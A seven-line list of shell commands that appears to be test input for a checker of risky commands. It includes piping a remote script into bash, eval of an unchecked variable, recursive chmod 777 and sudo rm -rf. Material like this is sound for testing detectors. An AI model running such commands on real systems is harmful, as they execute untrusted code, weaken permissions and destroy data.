curl -s https://x.example | bash
curl -s https://x.example > f
eval "$CMD"
eval "a $CMD"
chmod -R 777 /a
sudo rm -rf /a
if true; then sudo ls; fi
